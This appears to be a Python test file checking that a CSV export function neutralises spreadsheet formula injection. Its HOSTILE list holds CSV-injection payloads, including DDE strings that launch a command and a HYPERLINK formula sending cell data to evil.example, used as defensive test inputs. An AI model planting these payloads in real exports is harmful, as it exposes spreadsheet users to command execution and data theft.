"""CSV: read back as it was written, and nothing in it that a spreadsheet would calculate."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_platform.cli.formulas import csv_cell, csv_line

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '="=1+1"',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\0=1+1",
    "-",
    "=",
    '";=1+1',
    "=1\r\n=2",
]
"""https://owasp.org/www-community/attacks/CSV_Injection, and the forms that slipped past others' filters."""
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def read_back(line: str) -> list[str]:
    (row,) = csv.reader(io.StringIO(line, newline=""))
    return row


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_text(text: str) -> None:
    line = csv_line(["before", text, "after"])
    assert line.endswith("\r\n")
    before, cell, after = read_back(line)
    assert (before, after) == ("before", "after")
    assert not cell.lstrip(" ").startswith(DANGEROUS)


@given(st.lists(st.text(), min_size=1))
def test_no_cell_begins_a_formula_and_none_runs_into_the_next(cells: list[str]) -> None:
    line = csv_line(cells)
    found = read_back(line)
    assert len(found) == len(cells) or cells == [""]
    for was, cell in zip(cells, found, strict=False):
        assert not cell.lstrip(" ").startswith(DANGEROUS)
        assert cell in (was.replace("\0", "\ufffd"), f"'{was}".replace("\0", "\ufffd"))


def test_numbers_stay_numbers_and_objects_are_json() -> None:
    assert [csv_cell(each) for each in (-5, 1.5, True, None, {}, [])] == ["-5", "1.5", "true", "", "", ""]
    assert read_back(csv_line([{"a": "=1"}])) == ['{"a": "=1"}']
